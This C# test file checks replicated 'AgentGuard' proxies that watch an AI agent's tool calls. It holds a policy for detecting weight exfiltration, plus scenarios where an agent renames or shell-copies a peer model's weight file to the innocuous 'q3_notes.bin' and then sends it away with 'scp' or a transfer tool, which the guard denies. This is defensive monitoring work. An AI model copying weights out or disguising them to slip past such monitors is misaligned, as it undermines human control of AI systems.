using System.Net.Http.Json;
using System.Text.Json;
using AgentGuard.Audit;
using AgentGuard.Demo;
using AgentGuard.Infrastructure;
using AgentGuard.Proxy;
using AgentGuard.Sessions;
using Xunit.Abstractions;

namespace AgentGuard.Shared;

/// <summary>
/// Two real guards (replicas A and B) in front of the study's tool server, sharing one real PostgreSQL
/// and keeping separate audit chains: what the agent did through A is known to B, so weights copied or
/// renamed to a neutral name through A are denied when sent away through B, evidence the agent read
/// through A is B's evidence too, the guards' hold queue is one, and what a replica killed with
/// SIGKILL decided outlives it.
/// </summary>
public sealed class GuardReplicasTests(ITestOutputHelper output) : IDisposable
{
    private const string Policy = """
        version: 1
        default: allow
        assets:
          model-weights:
            case_insensitive: true
            resources: ["**/*model_weight*", "**/*.safetensors"]
        tools:
          list_server_files:
            - { kind: read, resource: "host://{ip}/" }
          rename_server_file:
            - { kind: move, resource: "host://{ip}/{filename}", destination: "host://{ip}/{new_filename}" }
          transfer_server_files:
            - { kind: move, resource: "host://{source_ip}/{filenames[*]}", destination: "host://{dest_ip}/" }
          run_shell_command:
            - { kind: shell, command: [command], host: "" }
          delete_server_file:
            - { kind: delete, resource: "host://{ip}/{filename}" }
        rules:
          - id: server-delete-held
            when: { tool: delete_server_file }
            decision: hold
            hold: { timeout: 30s }
            finding: { category: destructive-action, severity: medium }
          - id: weights-exfiltration
            when: { kind: [copy, move, egress], asset: model-weights, crosses_host: true }
            decision: deny
            finding: { category: weight-exfiltration, severity: critical }
          - id: weights-egress
            when: { kind: egress, asset: model-weights }
            decision: deny
            finding: { category: weight-exfiltration, severity: critical }
          - id: weights-copied-locally
            when: { kind: [copy, move], asset: model-weights, crosses_host: false }
            decision: flag
            finding: { category: weight-copy, severity: low }
        """;

    private const string Agent = "gemini-agent-1";
    private const string Source = StudyWorld.SourceServerIp;
    private const string Destination = StudyWorld.DestinationServerIp;
    private const string Weights = StudyWorld.PeerWeightFileName;

    // The orchestrator names the agent's run on both replicas (a load balancer may send any call to either).
    private const string RunHeader = "X-Agent-Run";
    private static readonly SessionKey Run = new(Agent, "run-1");
    private const string ReviewerToken = "alice-token-0123456789abcdef";
    private static int _ids;

    private readonly string _folder = Directory.CreateTempSubdirectory("agentguard-replicas-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [SkippableFact]
    public async Task Weights_renamed_to_a_neutral_name_through_one_replica_are_denied_when_transferred_through_another()
    {
        await using var postgres = SharedPostgres.Create();
        await using var world = await StartAsync(postgres);

        Assert.False(await world.CallAsync(world.A, "rename_server_file", new { ip = Source, filename = Weights, new_filename = "q3_notes.bin" }));
        await Poll.UntilAsync(() => world.B.Sessions.Lineage(Run)?.Find($"host://{Source}/q3_notes.bin") is not null, "replica B to learn the rename made through A");

        Assert.True(await world.CallAsync(world.B, "transfer_server_files", new { source_ip = Source, dest_ip = Destination, filenames = new[] { "q3_notes.bin" } }));
        Assert.False(world.Tools.World.WeightsExfiltrated);

        // B's chain says why: the lineage names the rename, whose record is in A's chain.
        var rename = Assert.Single(AuditReader.Query(world.AuditOf("a"), new AuditQuery { Type = "decision", Tool = "rename_server_file" }));
        var transfer = Assert.Single(AuditReader.Query(world.AuditOf("b"), new AuditQuery { Type = "decision", Tool = "transfer_server_files" }));
        Assert.Equal("weights-exfiltration", transfer.Rule);
        using var document = JsonDocument.Parse(transfer.Json);
        var why = Assert.Single(document.RootElement.GetProperty("lineage").EnumerateArray());
        Assert.Equal(rename.Reference, why.GetProperty("ref").GetString());
        Assert.Empty(AuditReader.Query(world.AuditOf("a"), new AuditQuery { Type = "decision", Tool = "transfer_server_files" }));
    }

    [SkippableFact]
    public async Task Weights_copied_in_a_shell_through_one_replica_are_denied_when_sent_through_another()
    {
        await using var postgres = SharedPostgres.Create();
        await using var world = await StartAsync(postgres);

        Assert.False(await world.CallAsync(world.A, "run_shell_command", new { command = $"cp /srv/models/{Weights} /tmp/q3_notes.bin" }));
        await Poll.UntilAsync(() => world.B.Sessions.Lineage(Run)?.Count > 0, "replica B to learn the copy made through A");

        Assert.True(await world.CallAsync(world.B, "run_shell_command", new { command = $"scp /tmp/q3_notes.bin maintainer@{Destination}:/data/" }));

        // Another run never copied anything: the same command goes through B.
        Assert.False(await world.CallAsync(world.B, "run_shell_command", new { command = $"scp /tmp/q3_notes.bin maintainer@{Destination}:/data/" }, session: "run-2"));
    }

    [SkippableFact]
    public async Task Evidence_an_agent_read_through_one_replica_is_evidence_on_another()
    {
        await using var postgres = SharedPostgres.Create();
        await using var world = await StartAsync(postgres);
        var since = TimeProvider.System.GetUtcNow().AddMinutes(-1);

        Assert.False(await world.CallAsync(world.A, "list_server_files", new { ip = Source }));

        await Poll.UntilAsync(() => world.B.Sessions.AgentEvidence(Agent, since).Any(e => e.Tool == "list_server_files"), "replica B to hold the evidence read through A");
        var read = Assert.Single(world.B.Sessions.AgentEvidence(Agent, since));
        Assert.Contains(Weights, read.Content, StringComparison.Ordinal);
        Assert.Equal(read, Assert.Single(world.A.Sessions.AgentEvidence(Agent, since)));
    }

    [SkippableFact]
    public async Task With_PostgreSQL_unreachable_a_replica_keeps_serving_and_decides_lineage_from_its_own_copy()
    {
        await using var postgres = SharedPostgres.Create();
        await using var relay = new TcpRelay(postgres.Port);
        await using var world = await StartAsync(postgres, connectionA: postgres.Through(relay.Port));
        relay.Cut();

        Assert.False(await world.CallAsync(world.A, "rename_server_file", new { ip = Source, filename = Weights, new_filename = "q3_notes.bin" }));
        Assert.True(await world.CallAsync(world.A, "transfer_server_files", new { source_ip = Source, dest_ip = Destination, filenames = new[] { "q3_notes.bin" } }));
        Assert.False(world.Tools.World.WeightsExfiltrated);
        Assert.Contains(world.Tools.World.GetServerFiles(Source), f => f.Name == "q3_notes.bin");
    }

    [SkippableFact]
    public async Task What_a_replica_decided_outlives_it_when_it_is_killed_with_SIGKILL()
    {
        await using var postgres = SharedPostgres.Create();
        var policies = await WritePolicyAsync();
        await using var tools = await StudyToolServer.StartAsync();
        using var http = new HttpClient();

        // Replica A is its own process: `agentguard run`, configured as an operator would, by environment.
        await using (var a = await Faults.GuardProcess.StartAsync(output, tools.BaseAddress, Path.Combine(_folder, "audit-a"), policies, new Dictionary<string, string>
        {
            ["AgentGuard__SharedState__Postgres"] = postgres.ConnectionString,
            ["AgentGuard__SharedState__Replica"] = "replica-a",
            ["AgentGuard__Sessions__Header"] = RunHeader,
            ["AgentGuard__Sessions__HeaderTrusted"] = "true",
        }))
        {
            Assert.False(await CallAsync(http, a.Data, tools, "rename_server_file", new { ip = Source, filename = Weights, new_filename = "q3_notes.bin" }));
            await Poll.UntilAsync(
                async () => await postgres.ScalarAsync<long>("SELECT count(*) FROM agentguard_session_facts WHERE replica = 'replica-a' AND kind = 'lineage'") == 1,
                "replica A to write the rename's lineage");
            a.Kill();
        }

        // Replica B starts after A died: it learns A's decisions from PostgreSQL before it serves.
        await using var b = await StartGuardAsync(tools, policies, "b", postgres.ConnectionString);
        Assert.NotNull(b.Sessions.Lineage(Run)?.Find($"host://{Source}/q3_notes.bin"));
        Assert.True(await CallAsync(http, b.DataAddress, tools, "transfer_server_files", new { source_ip = Source, dest_ip = Destination, filenames = new[] { "q3_notes.bin" } }));
        Assert.False(tools.World.WeightsExfiltrated);
        Assert.True(AuditVerifier.Verify(Path.Combine(_folder, "audit-a"), null).IsValid);
    }

    [SkippableFact]
    public async Task The_replicas_hold_queue_is_shared_and_one_guard_keeps_its_own()
    {
        await using var postgres = SharedPostgres.Create();
        await using var world = await StartAsync(postgres);
        Assert.IsType<PostgresHoldQueue>(world.A.Holds);
        var now = TimeProvider.System.GetUtcNow();
        const string Arguments = """{"filename":"q3_notes.bin","ip":"10.0.12.45"}""";
        var call = new Holds.HeldCall(
            "ref-held-on-a", Holds.HeldCallHash.Compute(Agent, "run-1", "delete_server_file", Arguments), Agent, "evaluator", "run-1", "delete_server_file", Arguments,
            "weights-delete-held", null, null, 1, now, now.AddMinutes(1), "replica-a");

        var held = world.A.Holds.HoldAsync(call, CancellationToken.None);
        await Poll.UntilAsync(() => world.B.Holds.Pending().Any(p => p.Call.Id == call.Id), "replica B's queue to list the call held on A");
        Assert.Equal(Holds.VoteResult.Approved, await world.B.Holds.VoteAsync(new Holds.HoldVote(call.Id, call.CallHash, "alice", true, null, now), CancellationToken.None));
        Assert.Equal(Holds.HoldOutcome.Approved, (await held.WaitAsync(TimeSpan.FromSeconds(20))).Outcome);

        // Without the setting, a guard keeps its holds in memory.
        await using var single = await TestGuard.StartAsync(output, world.Tools.BaseAddress, [await WritePolicyAsync()]);
        Assert.IsType<Holds.InMemoryHoldQueue>(single.Holds);
        Assert.IsType<InMemorySessionStore>(single.Sessions);
    }

    [SkippableFact]
    public async Task A_call_held_through_one_replica_is_released_by_a_reviewer_voting_on_the_other()
    {
        await using var postgres = SharedPostgres.Create();
        await using var world = await StartAsync(postgres);

        // The agent's call waits on A ...
        var call = world.CallAsync(world.A, "delete_server_file", new { ip = Source, filename = "deprecated_api_docs_v1.pdf" });
        using var admin = new HttpClient { BaseAddress = world.B.AdminAddress };
        admin.DefaultRequestHeaders.Authorization = new("Bearer", ReviewerToken);
        JsonElement held = default;
        await Poll.UntilAsync(
            async () =>
            {
                using var listed = JsonDocument.Parse(await admin.GetStringAsync("/api/approvals"));
                var approvals = listed.RootElement.GetProperty("approvals");
                held = approvals.GetArrayLength() == 1 ? approvals[0].Clone() : default;
                return held.ValueKind == JsonValueKind.Object;
            },
            "replica B to list the call held on A");
        Assert.False(call.IsCompleted);
        Assert.Equal("replica-a", held.GetProperty("replica").GetString());

        // ... and a reviewer's approval given on B releases it: the tool server gets the call.
        using var vote = await admin.PostAsJsonAsync("/api/approvals/" + held.GetProperty("id").GetString(), new { decision = "approve", call_hash = held.GetProperty("call_hash").GetString() });
        Assert.Equal(System.Net.HttpStatusCode.OK, vote.StatusCode);
        Assert.False(await call.WaitAsync(TimeSpan.FromSeconds(20)));
        Assert.DoesNotContain(world.Tools.World.GetServerFiles(Source), f => f.Name == "deprecated_api_docs_v1.pdf");

        // Each replica's chain tells its part: B took alice's vote, A held and released the call.
        var reference = held.GetProperty("id").GetString();
        Assert.Contains(AuditReader.Query(world.AuditOf("b"), new AuditQuery { Type = "hold" }), e => e.Reference == reference && e.Json.Contains("\"event\":\"vote\"", StringComparison.Ordinal) && e.Json.Contains("alice", StringComparison.Ordinal));
        await Poll.UntilAsync(() => AuditReader.Query(world.AuditOf("a"), new AuditQuery { Type = "hold" }).Any(e => e.Reference == reference && e.Json.Contains("\"event\":\"approved\"", StringComparison.Ordinal)), "A's record of the approval");
    }

    private async Task<string> WritePolicyAsync()
    {
        var policies = Path.Combine(_folder, "policies");
        Directory.CreateDirectory(policies);
        await File.WriteAllTextAsync(Path.Combine(policies, "lineage.yaml"), Policy);
        return policies;
    }

    /// <summary>Calls a tool through the guard at <paramref name="guard"/>; returns whether it was denied.</summary>
    private static async Task<bool> CallAsync(HttpClient http, Uri guard, StudyToolServer tools, string tool, object arguments, string session = "run-1")
    {
        var body = JsonSerializer.Serialize(new { jsonrpc = "2.0", id = Interlocked.Increment(ref _ids), method = "tools/call", @params = new { name = tool, arguments } });
        using var response = await Mcp.PostAsync(http, new Uri(guard, tools.Endpoint.AbsolutePath), body, request => request.Headers.Add(RunHeader, session));
        var text = await response.Content.ReadAsStringAsync();
        return text.Contains("permission denied (ref: ", StringComparison.Ordinal);
    }

    private async Task<World> StartAsync(SharedPostgres postgres, string? connectionA = null)
    {
        var policies = await WritePolicyAsync();
        var tools = await StudyToolServer.StartAsync();
        var a = await StartGuardAsync(tools, policies, "a", connectionA ?? postgres.ConnectionString);
        var b = await StartGuardAsync(tools, policies, "b", postgres.ConnectionString);
        return new World(tools, a, b, _folder);
    }

    private Task<GuardHost> StartGuardAsync(StudyToolServer tools, string policies, string replica, string postgres)
        => TestGuard.StartAsync(output, tools.BaseAddress, [policies], new Dictionary<string, string?>
        {
            ["AgentGuard:Audit:Directory"] = Path.Combine(_folder, "audit-" + replica),
            ["AgentGuard:Sessions:Header"] = RunHeader,
            ["AgentGuard:Sessions:HeaderTrusted"] = "true",
            ["AgentGuard:SharedState:Postgres"] = postgres,
            ["AgentGuard:SharedState:Replica"] = "replica-" + replica,
            ["AgentGuard:SharedState:Heartbeat"] = "00:00:00.250",
            ["AgentGuard:SharedState:ReplicaTimeout"] = "00:00:03",
            ["AgentGuard:Reviewers:File"] = WriteReviewers(),
        });

    private string WriteReviewers()
    {
        var path = Path.Combine(_folder, "reviewers.yaml");
        File.WriteAllText(path, $"reviewers:\n  - {{ name: alice, token_sha256: {Admin.ReviewerDirectory.Hash(ReviewerToken)} }}\n");
        return path;
    }

    private sealed class World(StudyToolServer tools, GuardHost a, GuardHost b, string folder) : IAsyncDisposable
    {
        private readonly HttpClient _http = new();

        public StudyToolServer Tools => tools;

        public GuardHost A => a;

        public GuardHost B => b;

        public string AuditOf(string replica) => Path.Combine(folder, "audit-" + replica);

        /// <summary>Calls a tool through <paramref name="guard"/>; returns whether it was denied.</summary>
        public Task<bool> CallAsync(GuardHost guard, string tool, object arguments, string session = "run-1")
            => GuardReplicasTests.CallAsync(_http, guard.DataAddress, tools, tool, arguments, session);

        public async ValueTask DisposeAsync()
        {
            _http.Dispose();
            await a.DisposeAsync();
            await b.DisposeAsync();
            await tools.DisposeAsync();
        }
    }
}
